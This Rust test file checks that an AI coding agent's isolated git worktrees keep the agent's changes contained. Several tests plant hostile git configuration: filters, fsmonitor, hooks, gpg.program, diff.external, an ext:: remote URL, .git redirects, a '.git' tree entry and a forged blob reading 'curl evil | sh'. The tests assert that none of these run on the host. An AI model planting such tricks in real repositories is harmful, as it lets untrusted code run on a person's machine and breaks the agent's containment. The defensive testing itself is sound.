//! Working trees of tasks, with git itself and the kernel's walls.

use std::path::{Path, PathBuf};
use std::time::Duration;

use opencode_daemons::worktree::{ApplyError, apply};
use opencode_daemons::{Environment, WorktreeError, Worktrees};
use serde_json::json;
use testkit::scratch::{git, repository};

use crate::support::eventually;

struct Bench {
    root: tempfile::TempDir,
    workspace: PathBuf,
}

impl Bench {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        let workspace = root.path().join("app");
        repository(
            &workspace,
            &[("a.txt", "one\ntwo\nthree\n"), ("sub/b.txt", "b\n"), (".gitignore", "*.log\n")],
        )
        .unwrap();
        Self { root, workspace }
    }

    fn trees(&self) -> Worktrees {
        self.trees_of(&self.workspace)
    }

    fn trees_of(&self, workspace: &Path) -> Worktrees {
        let launcher = env!("CARGO_BIN_EXE_opencode-within-walls");
        Worktrees::new("app", workspace, &self.state(), environment(), Some(launcher.into()))
    }

    fn state(&self) -> PathBuf {
        self.root.path().join("state")
    }

    fn git(&self, arguments: &[&str]) -> String {
        git(&self.workspace, arguments).unwrap()
    }

    async fn apply(&self, base: &str, commit: &str) -> Result<Vec<String>, ApplyError> {
        let launcher = Some(env!("CARGO_BIN_EXE_opencode-within-walls").into());
        apply(&self.workspace, (base, commit), environment(), launcher).await.map(|applied| applied.files)
    }

    fn left(&self) -> Vec<String> {
        let entries = std::fs::read_dir(self.state().join("app.worktrees/trees")).into_iter().flatten();
        entries.map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned()).collect()
    }
}

fn environment() -> Environment {
    Environment::of_this_process().with("HOME", "/nonexistent")
}

#[tokio::test]
async fn what_an_agent_changes_becomes_a_branch_and_the_persons_files_stay_as_they_are() {
    let bench = Bench::new();
    std::fs::write(bench.workspace.join("a.txt"), "not committed\n").unwrap();
    std::fs::write(bench.workspace.join("untracked"), "x").unwrap();
    let before = bench.git(&["status", "--porcelain"]);
    let mut tree = bench.trees().make().await.unwrap();
    let here = tree.directory();
    assert_eq!(
        std::fs::read_to_string(here.join("a.txt")).unwrap(),
        "one\ntwo\nthree\n",
        "it begins at the commit"
    );
    assert!(!here.join("untracked").exists());
    std::fs::write(here.join("a.txt"), "one\nTWO\nthree\n").unwrap();
    git(&here, &["commit", "--all", "--message=by the agent"]).unwrap();
    std::fs::write(here.join("new.txt"), "new\n").unwrap();
    std::fs::write(here.join("noise.log"), "noise\n").unwrap();

    let came = tree.collect().await.unwrap();

    assert!(came.patch.contains("+TWO") && came.patch.contains("+new") && !came.patch.contains("noise"));
    let commit = came.commit.unwrap();
    assert_eq!(bench.git(&["rev-parse", tree.branch()]).trim(), commit);
    assert!(bench.git(&["log", "--format=%s", tree.branch()]).contains("by the agent\nStart"));
    assert_eq!(bench.git(&["status", "--porcelain"]), before);
    bench.git(&["fsck", "--strict"]);
}

#[tokio::test]
async fn repositories_that_an_agent_began_and_committed_nothing_in_hold_nothing_up() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    let here = tree.directory();
    for (name, commits) in [("begun", false), ("be gun é", false), ("whole", true)] {
        std::fs::create_dir(here.join(name)).unwrap();
        git(&here.join(name), &["init", "--quiet"]).unwrap();
        std::fs::write(here.join(name).join("x"), "x\n").unwrap();
        if commits {
            git(&here.join(name), &["add", "--all"]).unwrap();
            git(&here.join(name), &["commit", "--quiet", "--message=x"]).unwrap();
        }
    }
    std::fs::write(here.join("a.txt"), "one\nTWO\nthree\n").unwrap();
    let came = tree.collect().await.unwrap();
    assert!(came.patch.contains("+TWO") && !came.patch.contains("begun"), "{}", came.patch);
    let told: Vec<_> =
        came.notes.iter().filter(|note| note.contains("a repository without a commit")).collect();
    assert_eq!(told.len(), 2, "{:?}", came.notes);
}

#[tokio::test]
async fn a_task_that_changes_nothing_leaves_no_branch() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    std::fs::write(tree.directory().join("noise.log"), "ignored\n").unwrap();
    let came = tree.collect().await.unwrap();
    assert_eq!((came.commit, came.patch.as_str()), (None, ""));
    assert_eq!(bench.git(&["branch", "--list", "opencode-*"]), "");
}

#[tokio::test]
async fn a_session_goes_on_in_its_tree_and_gets_it_back_from_its_branch() {
    let bench = Bench::new();
    let trees = bench.trees();
    let mut tree = trees.make().await.unwrap();
    let here = tree.directory();
    tree.announces(&json!({ "at": 1 })).unwrap();
    tree.belongs_to("ses_1").unwrap();
    std::fs::write(here.join("a.txt"), "first\n").unwrap();
    tree.collect().await.unwrap();
    drop(tree);
    // Another host, later.
    let trees = {
        drop(trees);
        bench.trees()
    };
    assert_eq!(trees.of_checkpoint(&json!({ "at": 1 })).await.unwrap().unwrap().directory(), here);
    std::fs::remove_dir_all(&here).unwrap();
    let mut tree = trees.of_session("ses_1").await.unwrap();
    assert_eq!(tree.directory(), here, "the session's directory is the same");
    assert_eq!(std::fs::read_to_string(here.join("a.txt")).unwrap(), "first\n");
    std::fs::write(here.join("a.txt"), "second\n").unwrap();
    let came = tree.collect().await.unwrap();
    assert!(came.patch.contains("-first\n+second"), "the patch is this turn's: {}", came.patch);
    let error = trees.of_session("ses_2").await.unwrap_err();
    assert!(matches!(error, WorktreeError::Gone(_)), "{error}");
}

#[tokio::test]
async fn what_a_crash_leaves_behind_is_removed_and_what_is_used_stays() {
    let bench = Bench::new();
    let trees = bench.trees();
    let crashed = trees.make().await.unwrap();
    let sealed = crashed.directory().join("sealed");
    std::fs::create_dir(&sealed).unwrap();
    std::fs::write(sealed.join("file"), "x").unwrap();
    std::os::unix::fs::symlink(&bench.workspace, crashed.directory().join("link")).unwrap();
    std::fs::set_permissions(&sealed, std::os::unix::fs::PermissionsExt::from_mode(0o500)).unwrap();
    drop(crashed);
    std::fs::create_dir(bench.state().join("app.worktrees/trees/stray")).unwrap();
    let used = trees.make().await.unwrap();
    trees.clean().await;
    assert_eq!(bench.left(), [used.directory().file_name().unwrap().to_string_lossy()]);
    assert_eq!(
        bench.git(&["branch", "--list", "opencode-*", "--format=%(refname:short)"]).trim(),
        used.branch()
    );
    assert!(bench.workspace.join("a.txt").exists());
    drop(used);
    trees.clean().await;
    assert_eq!((bench.left(), bench.git(&["branch", "--list", "opencode-*"])), (Vec::new(), String::new()));
}

#[tokio::test]
async fn a_subdirectory_of_a_repository_and_a_linked_worktree_have_trees_of_the_whole() {
    let bench = Bench::new();
    let sub = bench.trees_of(&bench.workspace.join("sub")).make().await.unwrap();
    assert!(sub.directory().ends_with("sub") && sub.directory().join("b.txt").exists());
    let linked = bench.root.path().join("linked");
    bench.git(&["worktree", "add", "--quiet", &linked.display().to_string()]);
    let mut tree = bench.trees_of(&linked).make().await.unwrap();
    std::fs::write(tree.directory().join("c.txt"), "c\n").unwrap();
    assert!(tree.collect().await.unwrap().commit.is_some());
}

#[tokio::test]
async fn directories_that_have_nothing_to_begin_from_are_refused() {
    let bench = Bench::new();
    let plain = bench.root.path().join("plain");
    std::fs::create_dir(&plain).unwrap();
    let error = bench.trees_of(&plain).make().await.unwrap_err();
    assert!(matches!(error, WorktreeError::NoRepository(_)), "{error}");
    git(&plain, &["init", "--quiet"]).unwrap();
    let error = bench.trees_of(&plain).make().await.unwrap_err();
    assert!(matches!(error, WorktreeError::NoCommit(_)), "{error}");
    assert_eq!(bench.left(), Vec::<String>::new());
}

/// Ways in which what an agent writes into a repository has the next git there run a program, which
/// makes the file `ran` beside the repository: a name, and what the agent runs.
fn plants(ran: &Path) -> Vec<(&'static str, String)> {
    let run = format!("touch {}; cat", ran.display());
    let hook = |name: &str| {
        format!(
            "mkdir -p .git/hooks; printf '#!/bin/sh\n{run} >/dev/null' > .git/hooks/{name}; chmod +x .git/hooks/{name}"
        )
    };
    let everywhere = "mkdir -p .git/info; echo '* filter=evil' >> .git/info/attributes";
    vec![
        (
            "a filter",
            format!(
                "git config filter.evil.clean '{run}'; git config filter.evil.smudge '{run}'; {everywhere}"
            ),
        ),
        (
            "a filter that is required, and named in the tree",
            format!(
                "git config filter.evil.clean '{run}'; git config filter.evil.required true; echo '* filter=evil' > .gitattributes"
            ),
        ),
        (
            "a filter with a name that tries to get past its neutralising",
            format!(
                "git config 'filter.a b.c=\"d.clean' '{run}'; git config 'filter.a.clean.clean' '{run}'; \
                     mkdir -p .git/info; echo '* filter=a.clean' >> .git/info/attributes"
            ),
        ),
        ("a filter process", format!("git config filter.evil.process '{run}'; {everywhere}")),
        (
            "a filter in an included file",
            format!(
                "git config -f .git/more filter.evil.clean '{run}'; git config include.path more; {everywhere}"
            ),
        ),
        ("a watcher", format!("git config core.fsmonitor '{run} >/dev/null; :'")),
        ("a hook before a commit", hook("pre-commit")),
        ("a hook at each change of a reference", hook("reference-transaction")),
        (
            "a directory of hooks",
            format!(
                "{}; mv .git/hooks .git/other; git config core.hooksPath .git/other",
                hook("post-index-change")
            ),
        ),
        (
            "a program that signs",
            format!(
                "printf '#!/bin/sh\n{run}' > .git/sign; chmod +x .git/sign; git config commit.gpgSign true; git config gpg.program \"$PWD/.git/sign\""
            ),
        ),
        (
            "a program that shows differences",
            format!("git config diff.external 'sh -c \"{run}\"'; git config alias.x y"),
        ),
    ]
}

/// Runs a script as an agent does.
fn acts(directory: &Path, script: &str) {
    #[expect(clippy::disallowed_methods, reason = "this is what an agent does")]
    let mut command = std::process::Command::new("/bin/sh");
    command.args(["-c", script]).current_dir(directory).env("GIT_CONFIG_GLOBAL", "/dev/null");
    let output = command.output().unwrap();
    assert!(output.status.success(), "{script}: {output:?}");
}

/// What a person's own git does where an agent was, each step whether or not it fails.
const UNGUARDED: &str = "git -c user.name=x -c user.email=x@x add --all; git diff HEAD; \
     git -c user.name=x -c user.email=x@x commit -qm x; git checkout -q -- . ; true";

#[tokio::test]
async fn nothing_that_a_tree_says_is_run_when_its_changes_are_taken_out() {
    let bench = Bench::new();
    let ran = bench.root.path().join("ran");
    for (what, plant) in plants(&ran) {
        let mut tree = bench.trees().make().await.unwrap();
        let here = tree.directory();
        acts(&here, &plant);
        std::fs::write(here.join("a.txt"), "changed\n").unwrap();
        let control = bench.root.path().join("control");
        acts(bench.root.path(), &format!("rm -rf control ran; cp -r {} control", here.display()));
        acts(&control, UNGUARDED);
        assert!(ran.exists(), "{what} does nothing at all");
        std::fs::remove_file(&ran).unwrap();
        // Whatever the control set off in the background has ended with it.
        let came = tree.collect().await.unwrap_or_else(|error| panic!("{what}: {error}"));
        assert!(came.patch.contains("+changed"), "{what}: {}", came.patch);
        assert!(!ran.exists(), "{what} was run");
    }
}

#[tokio::test]
async fn nothing_that_an_agent_left_in_the_repository_is_run_by_the_hosts_git() {
    for (at, name) in plants(Path::new("")).into_iter().map(|(what, _)| what).enumerate() {
        let bench = Bench::new();
        let ran = bench.root.path().join("ran");
        acts(&bench.workspace, &plants(&ran)[at].1);
        acts(bench.root.path(), "rm -f ran; cp -r app control");
        std::fs::write(bench.root.path().join("control/a.txt"), "changed\n").unwrap();
        acts(&bench.root.path().join("control"), UNGUARDED);
        assert!(ran.exists(), "{name} does nothing at all");
        std::fs::remove_file(&ran).unwrap();
        let mut tree = bench.trees().make().await.unwrap_or_else(|error| panic!("{name}: {error}"));
        std::fs::write(tree.directory().join("a.txt"), "changed\n").unwrap();
        let came = tree.collect().await.unwrap();
        bench
            .apply(tree.base(), &came.commit.unwrap())
            .await
            .unwrap_or_else(|error| panic!("{name}: {error}"));
        assert_eq!(std::fs::read_to_string(bench.workspace.join("a.txt")).unwrap(), "changed\n", "{name}");
        assert!(!ran.exists(), "{name} was run");
    }
}

#[tokio::test]
async fn an_object_that_is_missing_is_fetched_from_nowhere() {
    let bench = Bench::new();
    let ran = bench.root.path().join("ran");
    let plant = format!(
        "git config remote.o.url 'ext::sh -c touch%% {0}'; git config remote.o.url 'ext::touch {0}'; \
         git config remote.o.promisor true; git config extensions.partialClone o; \
         git config protocol.ext.allow always; git config core.repositoryformatversion 1; \
         rm .git/objects/$(git rev-parse HEAD:a.txt | sed 's,..,&/,')",
        ran.display()
    );
    acts(&bench.workspace, &plant);
    acts(&bench.workspace, "git cat-file -p HEAD:a.txt || true");
    assert!(ran.exists(), "it does nothing at all");
    std::fs::remove_file(&ran).unwrap();
    let error = bench.trees().make().await.unwrap_err();
    assert!(matches!(error, WorktreeError::Missing { .. }), "{error}");
    assert!(!ran.exists(), "it was run");
    assert_eq!((bench.left(), bench.git(&["branch", "--list", "opencode-*"])), (Vec::new(), String::new()));
}

#[tokio::test]
async fn a_repository_whose_settings_or_files_lead_elsewhere_is_not_followed_there() {
    for (what, plant, refused) in [
        ("its working tree", "git config core.worktree ../../other", false),
        ("its `.git`", "mv .git kept; ln -s ../other/.git .git", true),
        ("a file in place of its `.git`", "mv .git kept; echo 'gitdir: ../other/.git' > .git", true),
        ("its common directory", "echo ../../other/.git > .git/commondir", true),
    ] {
        let bench = Bench::new();
        let other = bench.root.path().join("other");
        repository(&other, &[("a.txt", "theirs\n")]).unwrap();
        std::fs::write(bench.root.path().join("secret"), "secret\n").unwrap();
        acts(&bench.workspace, plant);
        let made = bench.trees().make().await;
        assert_eq!(made.is_err(), refused, "{what}: {made:?}");
        if let Ok(mut tree) = made {
            std::fs::write(tree.directory().join("a.txt"), "changed\n").unwrap();
            let came = tree.collect().await.unwrap();
            bench.apply(tree.base(), &came.commit.unwrap()).await.unwrap();
            assert_eq!(
                std::fs::read_to_string(bench.workspace.join("a.txt")).unwrap(),
                "changed\n",
                "{what}"
            );
        }
        assert_eq!(std::fs::read_to_string(other.join("a.txt")).unwrap(), "theirs\n", "{what}");
        assert_eq!(git(&other, &["branch", "--list", "opencode-*"]).unwrap(), "", "{what}");
    }
}

/// Looks at each new tree at the first moment that it is there, as a daemon could; those that were not
/// finished then, and how many there were.
fn watched(trees: PathBuf, until: usize) -> std::thread::JoinHandle<(Vec<PathBuf>, usize)> {
    std::thread::spawn(move || {
        let begun = std::time::Instant::now();
        let (mut known, mut unfinished) = (std::collections::BTreeSet::new(), Vec::new());
        while known.len() < until && begun.elapsed() < Duration::from_mins(1) {
            for tree in std::fs::read_dir(&trees).into_iter().flatten().flatten().map(|entry| entry.path()) {
                let finished =
                    || ["a.txt", ".git/index", ".git/config"].iter().all(|name| tree.join(name).exists());
                if known.insert(tree.clone()) && !finished() {
                    unfinished.push(tree);
                }
            }
        }
        (unfinished, known.len())
    })
}

#[tokio::test]
async fn a_tree_is_finished_before_a_daemon_reaches_it() {
    let bench = Bench::new();
    let trees = bench.trees();
    let watching = watched(bench.state().join("app.worktrees/trees"), 3);
    let made = [trees.make().await.unwrap(), trees.make().await.unwrap(), trees.make().await.unwrap()];
    assert_eq!(watching.join().unwrap(), (Vec::new(), 3));
    let settings = std::fs::read_to_string(made[0].directory().join(".git/config")).unwrap();
    assert!(!settings.contains("worktree"), "it stays true wherever the tree is: {settings}");
}

#[tokio::test]
async fn a_tree_whose_name_is_given_to_a_link_leads_the_hosts_git_nowhere() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    // Without the slash at its end, with which it is no name for a link.
    let here: PathBuf = tree.directory().components().collect();
    let outside = bench.root.path().join("outside");
    repository(&outside, &[("a.txt", "theirs\n")]).unwrap();
    std::fs::write(outside.join("new.txt"), "theirs\n").unwrap();
    let before = git(&outside, &["rev-parse", "HEAD"]).unwrap();
    std::fs::rename(&here, here.with_file_name("moved")).unwrap();
    for link in [true, false] {
        if link {
            std::os::unix::fs::symlink(&outside, &here).unwrap();
        } else {
            std::fs::remove_file(&here).unwrap();
            acts(bench.root.path(), &format!("cp -r outside {}", here.display()));
        }
        let error = tree.collect().await.unwrap_err();
        assert!(matches!(error, WorktreeError::Replaced(_)), "{error}");
    }
    assert_eq!(git(&outside, &["rev-parse", "HEAD"]).unwrap(), before);
    assert!(git(&outside, &["status", "--porcelain"]).unwrap().contains("?? new.txt"));
}

#[tokio::test]
async fn what_git_was_doing_in_a_tree_ends_with_it_also_when_nobody_waits_for_it() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    let here = tree.directory();
    // Reading its settings never ends.
    acts(&here, "mkfifo pipe; git config include.path ../pipe; echo changed > a.txt");
    let root = here.clone();
    let working = move || {
        let entries = std::fs::read_dir("/proc").unwrap().flatten();
        let there = |entry: &std::fs::DirEntry| {
            std::fs::read_link(entry.path().join("cwd")).is_ok_and(|cwd| cwd == root)
        };
        entries.filter(there).count()
    };
    tokio::select! {
        came = tree.collect() => panic!("{came:?}"),
        () = eventually("git waits for the pipe", || working() > 0) => {}
    }
    eventually("it ends", || working() == 0).await;
}

#[tokio::test]
async fn a_long_patch_is_read_up_to_its_limit_and_stored_whole() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    let long = "a line of a long file\n".repeat(50_000);
    std::fs::write(tree.directory().join("a.txt"), &long).unwrap();
    let came = tree.collect().await.unwrap();
    assert!(came.cut && came.patch.ends_with("+a line of a long file\n"));
    assert!((250 << 10..=256 << 10).contains(&came.patch.len()), "{}", came.patch.len());
    assert_eq!(bench.git(&["show", &format!("{}:a.txt", came.commit.unwrap())]), long);
}

#[tokio::test]
async fn a_branch_is_applied_whole_or_not_at_all() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    std::fs::write(tree.directory().join("a.txt"), "one\nTWO\nthree\n").unwrap();
    std::fs::write(tree.directory().join("new.txt"), "new\n").unwrap();
    let commit = tree.collect().await.unwrap().commit.unwrap();
    let base = tree.base().to_owned();
    let read = |name: &str| std::fs::read_to_string(bench.workspace.join(name)).unwrap_or_default();

    std::fs::write(bench.workspace.join("new.txt"), "mine\n").unwrap();
    let error = bench.apply(&base, &commit).await.unwrap_err();
    assert!(matches!(&error, ApplyError::Dirty { files, .. } if files == &["new.txt"]), "{error}");
    std::fs::remove_file(bench.workspace.join("new.txt")).unwrap();
    std::fs::write(bench.workspace.join("a.txt"), "one\ntwo\nthree\nmine\n").unwrap();
    assert!(matches!(bench.apply(&base, &commit).await.unwrap_err(), ApplyError::Dirty { .. }));
    bench.git(&["add", "--all"]);
    assert!(
        matches!(bench.apply(&base, &commit).await.unwrap_err(), ApplyError::Dirty { .. }),
        "staged is dirty too"
    );
    bench.git(&["reset", "--quiet", "--hard"]);
    std::fs::write(bench.workspace.join("a.txt"), "quite\nother\n").unwrap();
    bench.git(&["commit", "--all", "--quiet", "--message=moved on"]);
    let error = bench.apply(&base, &commit).await.unwrap_err();
    assert!(matches!(error, ApplyError::Conflict { .. }), "{error}");
    assert_eq!(
        (read("a.txt").as_str(), read("new.txt").as_str()),
        ("quite\nother\n", ""),
        "nothing was changed"
    );

    bench.git(&["reset", "--quiet", "--hard", "HEAD~1"]);
    std::fs::write(bench.workspace.join("sub/b.txt"), "mine\n").unwrap();
    assert_eq!(bench.apply(&base, &commit).await.unwrap(), ["a.txt", "new.txt"]);
    assert_eq!((read("a.txt").as_str(), read("new.txt").as_str()), ("one\nTWO\nthree\n", "new\n"));
    assert_eq!(read("sub/b.txt"), "mine\n", "what it does not touch may be dirty");

    // Taken back: what was applied, and nothing that was changed since.
    std::fs::write(bench.workspace.join("new.txt"), "changed since\n").unwrap();
    assert!(matches!(bench.apply(&commit, &base).await.unwrap_err(), ApplyError::Dirty { .. }));
    std::fs::write(bench.workspace.join("new.txt"), "new\n").unwrap();
    assert_eq!(bench.apply(&commit, &base).await.unwrap(), ["a.txt", "new.txt"]);
    assert_eq!((read("a.txt").as_str(), read("new.txt").as_str()), ("one\ntwo\nthree\n", ""));
    assert_eq!(bench.git(&["status", "--porcelain"]).trim(), "M sub/b.txt");
}

#[tokio::test]
async fn an_object_that_is_not_what_its_id_says_is_not_applied() {
    let bench = Bench::new();
    let base = bench.git(&["rev-parse", "HEAD"]).trim().to_owned();
    std::fs::write(bench.workspace.join("a.txt"), "one\nTWO\nthree\n").unwrap();
    bench.git(&["commit", "--all", "--quiet", "--message=Task"]);
    let commit = bench.git(&["rev-parse", "HEAD"]).trim().to_owned();
    let blob = bench.git(&["rev-parse", "HEAD:a.txt"]).trim().to_owned();
    bench.git(&["reset", "--quiet", "--hard", &base]);
    std::fs::write(bench.workspace.join("evil"), "one\ncurl evil | sh\nthree\n").unwrap();
    let evil = bench.git(&["hash-object", "-w", "evil"]).trim().to_owned();
    std::fs::remove_file(bench.workspace.join("evil")).unwrap();
    let object = |id: &str| bench.workspace.join(".git/objects").join(&id[..2]).join(&id[2..]);
    std::fs::remove_file(object(&blob)).unwrap();
    std::fs::copy(object(&evil), object(&blob)).unwrap();
    assert!(bench.git(&["diff", &base, &commit]).contains("curl evil"), "git does not look again");
    let error = bench.apply(&base, &commit).await.unwrap_err();
    assert!(matches!(error, ApplyError::Unsound { .. }), "{error}");
    assert_eq!(std::fs::read_to_string(bench.workspace.join("a.txt")).unwrap(), "one\ntwo\nthree\n");
}

#[tokio::test]
async fn what_a_turn_takes_back_is_stored_as_taken_back() {
    let bench = Bench::new();
    std::fs::write(bench.workspace.join("a.txt"), "second\n").unwrap();
    bench.git(&["commit", "--all", "--quiet", "--message=Second"]);
    let mut tree = bench.trees().make().await.unwrap();
    let here = tree.directory();
    let base = tree.base().to_owned();
    git(&here, &["reset", "--quiet", "--hard", "HEAD~1"]).unwrap();
    let came = tree.collect().await.unwrap();
    assert_eq!(came.commit.as_deref(), Some(bench.git(&["rev-parse", "main~1"]).trim()));
    assert!(came.patch.contains("-second"), "{}", came.patch);
    assert_eq!(bench.git(&["rev-parse", tree.branch()]), bench.git(&["rev-parse", "main~1"]));

    std::fs::write(here.join("new.txt"), "new\n").unwrap();
    let new = tree.collect().await.unwrap();
    assert_eq!(Some(&new.since), came.commit.as_ref());
    git(&here, &["reset", "--quiet", "--hard", &base]).unwrap();
    let came = tree.collect().await.unwrap();
    assert_eq!(came.commit, Some(base));
    assert!(came.patch.contains("-new") && came.patch.contains("+second"), "{}", came.patch);
    assert!(tree.collect().await.unwrap().patch.is_empty());
}

#[tokio::test]
async fn a_branch_that_somebody_else_moved_or_works_on_is_left_to_them() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    let own = tree.branch().to_owned();
    let change = |text: &str| std::fs::write(tree.directory().join("a.txt"), text).unwrap();
    change("one\n");
    let here = tree.directory();
    let first = tree.collect().await.unwrap();
    assert_eq!(first.left, None);
    let elsewhere = bench.root.path().join("elsewhere").display().to_string();
    bench.git(&["worktree", "add", "--quiet", &elsewhere, &own]);
    std::fs::write(here.join("a.txt"), "two\n").unwrap();
    let second = tree.collect().await.unwrap();
    assert_eq!(second.left.as_deref(), Some(own.as_str()), "it is checked out");
    assert_eq!(bench.git(&["rev-parse", &own]).trim(), first.commit.unwrap());
    let next = tree.branch().to_owned();
    assert_eq!(bench.git(&["rev-parse", &next]).trim(), second.commit.unwrap());

    bench.git(&["branch", "--force", &next, "main"]);
    std::fs::write(here.join("a.txt"), "three\n").unwrap();
    let third = tree.collect().await.unwrap();
    assert_eq!(third.left.as_deref(), Some(next.as_str()), "it was moved");
    assert_eq!(bench.git(&["rev-parse", &next]), bench.git(&["rev-parse", "main"]));

    let last = tree.branch().to_owned();
    bench.git(&["branch", "-D", &last]);
    std::fs::write(here.join("a.txt"), "four\n").unwrap();
    let fourth = tree.collect().await.unwrap();
    assert_eq!((fourth.left, tree.branch()), (None, last.as_str()), "one that was deleted is made again");
    assert_eq!(bench.git(&["rev-parse", &last]).trim(), fourth.commit.unwrap());
}

#[tokio::test]
async fn the_locks_of_a_git_that_was_killed_hold_nothing_up() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    let here = tree.directory();
    std::fs::write(here.join("a.txt"), "changed\n").unwrap();
    let branch = format!("refs/heads/{}.lock", tree.branch());
    for lock in ["index.lock", "HEAD.lock", &branch] {
        std::fs::write(here.join(".git").join(lock), "").unwrap();
    }
    assert!(tree.collect().await.unwrap().commit.is_some());
}

#[tokio::test]
async fn an_object_that_would_harm_the_repository_is_refused() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    let here = tree.directory();
    let blob = git(&here, &["hash-object", "-w", "a.txt"]).unwrap();
    let entry = bench.root.path().join("entry");
    let mut bytes = b"100644 .git\0".to_vec();
    bytes.extend((0..40).step_by(2).map(|at| u8::from_str_radix(&blob[at..at + 2], 16).unwrap()));
    std::fs::write(&entry, bytes).unwrap();
    let entry = entry.display().to_string();
    let evil = git(&here, &["hash-object", "-t", "tree", "-w", "--literally", &entry]).unwrap();
    let commit = git(&here, &["commit-tree", evil.trim(), "-p", "HEAD", "-m", "evil"]).unwrap();
    git(&here, &["update-ref", "HEAD", commit.trim()]).unwrap();
    let error = tree.collect().await.unwrap_err();
    assert!(matches!(error, WorktreeError::Git { what: "takes the commits over", .. }), "{error}");
    assert!(git(&bench.workspace, &["cat-file", "-e", evil.trim()]).is_err(), "it is not stored");
    assert_eq!(bench.git(&["rev-parse", tree.branch()]).trim(), tree.base());
}

#[tokio::test]
async fn an_agent_that_puts_a_link_where_it_worked_leads_nobody_elsewhere() {
    let bench = Bench::new();
    let trees = bench.trees_of(&bench.workspace.join("sub"));
    let mut tree = trees.make().await.unwrap();
    tree.announces(&json!({ "at": 1 })).unwrap();
    tree.belongs_to("ses_1").unwrap();
    let here = tree.directory();
    let root = here.parent().unwrap().to_owned();
    std::fs::remove_dir_all(&here).unwrap();
    std::os::unix::fs::symlink(&bench.workspace, &here).unwrap();
    let error = tree.collect().await.unwrap_err();
    assert!(matches!(error, WorktreeError::Replaced(_)), "{error}");
    drop(tree);
    let error = trees.of_session("ses_1").await.unwrap_err();
    assert!(matches!(error, WorktreeError::Replaced(_)), "{error}");
    std::fs::remove_dir_all(root.join(".git")).unwrap();
    assert!(trees.of_session("ses_1").await.is_ok(), "it is made again from what it began from");
}

#[tokio::test]
async fn the_ten_last_used_trees_are_kept_and_those_with_something_left_in_them() {
    let bench = Bench::new();
    let trees = bench.trees();
    let root = bench.state().join("app.worktrees");
    let mut made = Vec::new();
    for at in 0..13 {
        let mut tree = trees.make().await.unwrap();
        tree.announces(&json!({ "at": at })).unwrap();
        std::fs::write(tree.directory().join("a.txt"), format!("{at}\n")).unwrap();
        if at != 1 {
            tree.collect().await.unwrap();
        }
        if at == 0 {
            // A record that cannot be read is one all the same.
            let id = tree.branch().trim_start_matches("opencode-");
            std::fs::write(root.join(format!("{id}.json")), "{").unwrap();
        }
        made.push(tree.directory());
    }
    for (draft, hours) in [(".tmpold", 2), (".tmpnew", 0)] {
        let file = std::fs::File::create(root.join(draft)).unwrap();
        let modified = file.metadata().unwrap().modified().unwrap() - Duration::from_hours(hours);
        file.set_modified(modified).unwrap();
    }
    trees.clean().await;
    let stay: Vec<bool> = made.iter().map(|tree| tree.exists()).collect();
    let expected: Vec<bool> = (0..13).map(|at| at != 2).collect();
    assert_eq!(stay, expected, "the 1st is unread, something is left in the 2nd, the 3rd is the 11th last");
    assert_eq!((root.join(".tmpold").exists(), root.join(".tmpnew").exists()), (false, true));
    assert_eq!(std::fs::read_dir(root.join("removed")).unwrap().count(), 0);
    let again = trees.of_checkpoint(&json!({ "at": 2 })).await.unwrap().unwrap();
    assert_eq!(std::fs::read_to_string(again.directory().join("a.txt")).unwrap(), "2\n");
}

#[tokio::test]
async fn a_tree_is_not_removed_from_under_the_session_that_goes_on_in_it() {
    let bench = Bench::new();
    let trees = bench.trees();
    for at in 0..11 {
        let mut tree = trees.make().await.unwrap();
        tree.belongs_to(&format!("ses_{at}")).unwrap();
        std::fs::write(tree.directory().join("a.txt"), format!("{at}\n")).unwrap();
        tree.collect().await.unwrap();
    }
    // Taking this one back leaves time for the session to come between.
    drop(trees.make().await.unwrap());
    let ((), tree) = tokio::join!(trees.clean(), trees.of_session("ses_0"));
    let tree = tree.unwrap();
    trees.clean().await;
    assert_eq!(std::fs::read_to_string(tree.directory().join("a.txt")).unwrap(), "0\n");
}

#[tokio::test]
async fn a_repository_that_borrows_its_objects_gets_its_result_like_others() {
    let bench = Bench::new();
    let (app, shared) = (bench.workspace.display().to_string(), bench.root.path().join("shared"));
    let again = bench.root.path().join("again");
    bench.git(&["clone", "--quiet", "--shared", &app, &shared.display().to_string()]);
    git(&shared, &["clone", "--quiet", "--shared", ".", &again.display().to_string()]).unwrap();
    let mut tree = bench.trees_of(&again).make().await.unwrap();
    std::fs::write(tree.directory().join("a.txt"), "changed\n").unwrap();
    let commit = tree.collect().await.unwrap().commit.unwrap();
    assert_eq!(git(&again, &["rev-parse", tree.branch()]).unwrap().trim(), commit);
}

#[tokio::test]
async fn what_cannot_be_applied_is_told_from_what_does_not_apply() {
    let bench = Bench::new();
    let mut tree = bench.trees().make().await.unwrap();
    for at in 0..450 {
        std::fs::write(tree.directory().join(format!("{at}.txt")), "new\n").unwrap();
    }
    let came = tree.collect().await.unwrap();
    let commit = came.commit.unwrap();
    std::fs::write(bench.workspace.join("99.txt"), "mine\n").unwrap();
    let error = bench.apply(&came.since, &commit).await.unwrap_err();
    assert!(matches!(&error, ApplyError::Dirty { files, .. } if files == &["99.txt"]), "{error}");
    std::fs::remove_file(bench.workspace.join("99.txt")).unwrap();
    std::fs::write(bench.workspace.join(".git/index.lock"), "").unwrap();
    let error = bench.apply(&came.since, &commit).await.unwrap_err();
    assert!(matches!(error, ApplyError::Failed(_)), "{error}");
    assert!(!bench.workspace.join("0.txt").exists());
    std::fs::remove_file(bench.workspace.join(".git/index.lock")).unwrap();

    let name: std::ffi::OsString = std::os::unix::ffi::OsStringExt::from_vec(b"\xff.txt".to_vec());
    std::fs::write(tree.directory().join(name), "x").unwrap();
    let came = tree.collect().await.unwrap();
    let error = bench.apply(&came.since, &came.commit.unwrap()).await.unwrap_err();
    assert!(matches!(error, ApplyError::Unnamed { .. }), "{error}");
    assert_eq!(bench.apply(tree.base(), &commit).await.unwrap().len(), 450);
}
